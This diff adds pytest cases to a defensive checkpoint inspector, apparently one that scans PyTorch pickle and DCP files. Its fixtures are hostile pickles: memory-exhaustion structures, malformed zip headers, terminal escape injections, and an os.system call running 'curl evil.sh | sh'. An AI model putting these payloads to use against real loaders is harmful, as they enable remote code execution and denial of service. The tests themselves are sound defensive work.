@@ -13,14 +13,19 @@ import struct
 import pytest
 
 from tests.attacks.ckptcraft import (
+    LEGACY_HEADER,
     P2,
     Run,
     bare_pickle,
+    binint,
+    dcp_folder,
     mkfifo,
     rebuild_tensor,
     run_limited,
     safetensors,
+    shared_list,
     sparse_safetensors,
+    torch_blob,
     torch_zip,
     unicode,
 )
@@ -202,3 +207,131 @@ def test_hostile_stamp_in_a_pickle_is_read_within_limits(tmp_path):
     run = _inspect(tmp_path, torch_zip(tmp_path / "stamp.pt", pkl))
     _bounded(run)
     assert run.returncode == 0, run.stderr
+
+
+def test_many_colliding_dict_keys_render_in_linear_time(tmp_path):
+    # 16,000 distinct 2-byte bytes keys all render as {"bytes": 2}: `while key in out: key += "#"` made
+    # that cubic (8,000 keys: 24 s; 65,536: hours). Each duplicate now gets the next free "#n".
+    n = 16_000
+    pkl = P2 + b"}(" + b"".join(b"C\x02" + struct.pack("<H", i) + b"N" for i in range(n)) + b"u."
+    run = _inspect(tmp_path, torch_zip(tmp_path / "keys.pt", pkl), "--json")
+    _bounded(run)
+    assert run.returncode == 0, run.stderr
+    content = json.loads(run.stdout)["content"]
+    assert len(content) == n, len(content)
+    assert '{"bytes": 2}#2' in content and f'{{"bytes": 2}}#{n}' in content
+
+
+def test_storage_key_that_is_not_text_is_never_stringified(tmp_path):
+    # A storage persistent id whose key is a list of 1,000 references to a list of 1,000 references to a
+    # 64 KiB string: str() of it is 64 GB (a 1 MiB string: a terabyte).
+    pid = (b"(" + unicode("storage") + b"ctorch\nFloatStorage\n" + shared_list(64 << 10) + unicode("cpu")
+           + binint(1) + b"tQ")
+    run = _inspect(tmp_path, torch_zip(tmp_path / "pid.pt", P2 + pid + b"."), "--json")
+    _bounded(run)
+    assert run.returncode == 0, run.stderr
+
+
+@pytest.mark.parametrize("header", ["shared", "deep"])
+def test_legacy_header_that_is_not_a_number_is_refused_in_one_line(tmp_path, header):
+    # The protocol version after the legacy magic: repr() of a shared list was a terabyte; of a list
+    # 200,000 deep, a RecursionError (exit 70).
+    body = shared_list(64 << 10) if header == "shared" else b"]" * 200_000 + b"a" * 199_999
+    ckpt = bare_pickle(tmp_path / "legacy.pt", LEGACY_HEADER + P2 + body + b".")
+    _refused(_inspect(tmp_path, ckpt), 5, "unknown protocol version (a list, not a number)")
+
+
+@pytest.mark.parametrize("arg", ["shared", "deep"])
+def test_blocked_call_arguments_are_shown_bounded_whatever_their_type(tmp_path, arg):
+    # posix.system(OrderedDict(a=<value>)): reprlib handed the OrderedDict to builtins.repr, whole.
+    value = shared_list(64 << 10) if arg == "shared" else b"]" * 200_000 + b"a" * 199_999
+    od = b"ccollections\nOrderedDict\n)R" + unicode("a") + value + b"s"
+    pkl = P2 + b"cposix\nsystem\n" + od + b"\x85R."
+    run = _inspect(tmp_path, torch_zip(tmp_path / "call.pt", pkl), "--json")
+    _bounded(run)
+    assert run.returncode == 0, run.stderr
+    (finding,) = json.loads(run.stdout)["findings"]
+    assert finding.startswith("pickle tries to call posix.system (os.system)(OrderedDict({'a': [["), finding
+    assert len(finding) < 1000, len(finding)
+
+
+def _long1(n: int) -> bytes:
+    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
+    return b"\x8a" + bytes([len(raw)]) + raw  # LONG1
+
+
+def _big_blob(size: int = 1_000_000) -> bytes:
+    return torch_blob(P2 + b"X" + struct.pack("<I", size) + b"a" * size + b".")
+
+
+def test_dcp_entries_pointing_at_one_blob_share_one_budget(tmp_path):
+    # 2,000 byte entries of a 200 KB .metadata all pointing at one 1 MiB blob: each was read, unpickled and
+    # rendered on its own (200 entries: 600 MB). Read once now; its content repeated within one budget.
+    blob = _big_blob()
+    folder = dcp_folder(tmp_path / "many", blob, [("__0_0.distcp", binint(0), len(blob))] * 2000)
+    run = _inspect(tmp_path, folder, "--json")
+    _bounded(run)
+    assert run.returncode == 0, run.stderr
+    content = json.loads(run.stdout)["content"]
+    assert content["k0"] == "a" * 1_000_000 and content["k1999"] == {"bytes": len(blob)}
+
+
+def test_dcp_entries_at_many_offsets_share_one_budget(tmp_path):
+    # 40 distinct 512 KB blobs: read until the folder's byte budget is spent, the rest noted.
+    blob = _big_blob(500_000)
+    folder = dcp_folder(tmp_path / "offsets", blob * 40,
+                        [("__0_0.distcp", binint(i * len(blob)), len(blob)) for i in range(40)])
+    run = _inspect(tmp_path, folder, "--json")
+    _bounded(run)
+    assert run.returncode == 0, run.stderr
+    doc = json.loads(run.stdout)
+    assert doc["content"]["k0"] == "a" * 500_000 and doc["content"]["k39"] == {"bytes": len(blob)}
+    assert any("over envvault's 8 MiB limit" in n for n in doc["notes"]), doc["notes"]
+
+
+def _patched_blob(kind: str) -> bytes:
+    raw = bytearray(torch_blob(P2 + b"N."))
+    cd = raw.find(b"PK\x01\x02")
+    if kind == "method-99":  # compression method 99 (AES): zipfile raises NotImplementedError
+        raw[8:10] = raw[cd + 10 : cd + 12] = struct.pack("<H", 99)
+    else:  # the encrypted flag: zipfile raises RuntimeError
+        raw[6] |= 1
+        raw[cd + 8] |= 1
+    return bytes(raw)
+
+
+@pytest.mark.parametrize("case", ["nul-in-path", "offset-2**70", "method-99", "encrypted"])
+def test_hostile_dcp_byte_entry_is_a_note_not_a_crash(tmp_path, case):
+    # Each ended in exit 70 with a traceback (ValueError, OverflowError, NotImplementedError, RuntimeError).
+    blob = _patched_blob(case) if case in ("method-99", "encrypted") else torch_blob(P2 + b"N.")
+    rel = "a\0b" if case == "nul-in-path" else "__0_0.distcp"
+    offset = _long1(2**70) if case == "offset-2**70" else binint(0)
+    folder = dcp_folder(tmp_path / "dcp", blob, [(rel, offset, len(blob))])
+    run = _inspect(tmp_path, folder, "--json")
+    _bounded(run)
+    assert run.returncode == 0, run.stderr
+    assert json.loads(run.stdout)["content"]["k0"] == {"bytes": len(blob)}
+
+
+@pytest.mark.parametrize("offset", [2**64 - 1, 2**63 + 5])
+def test_zip64_locator_pointing_past_the_file_is_refused_in_one_line(tmp_path, offset):
+    # The zip64 end locator's offset was passed to seek() outside the try: ValueError/OverflowError, exit 70.
+    loc = b"PK\x06\x07" + struct.pack("<LQL", 0, offset, 1)
+    eocd = b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, 0, 0, 0, 0, 0)
+    ckpt = bare_pickle(tmp_path / "zip64.pt", b"PK\x03\x04" + b"\0" * 100 + loc + eocd)
+    _refused(_inspect(tmp_path, ckpt), 5, "zip64.pt")
+
+
+def test_escape_sequences_from_a_checkpoint_are_shown_escaped(tmp_path):
+    # A global named "x\x1b[1A\x1b[2K\r..." moved the cursor up and erased the danger line above it; C1
+    # controls (\x9b is CSI) and bidi overrides in content and notes passed json.dumps(ensure_ascii=False).
+    esc = "x\x1b[1A\x1b[2K\r  unknown: pickle refers to a harmless helper"
+    pkl = (P2 + b"}(" + unicode("a") + b"cposix\nsystem\n" + unicode("curl evil.sh | sh") + b"\x85R"
+           + unicode("b") + b"c" + esc.encode() + b"\ny\n)R" + unicode("k\x9b2J\u202e\u2028") + b"N" + b"u.")
+    run = _inspect(tmp_path, torch_zip(tmp_path / "esc.pt", pkl))
+    _bounded(run)
+    assert run.returncode == 0, run.stderr
+    for bad in ("\x1b", "\r", "\x9b", "\u202e", "\u2028"):
+        assert bad not in run.stdout, (bad, run.stdout)
+    assert "x\\x1b[1A\\x1b[2K\\r" in run.stdout, run.stdout
+    assert "danger: pickle tries to call posix.system (os.system)('curl evil.sh | sh')" in run.stdout
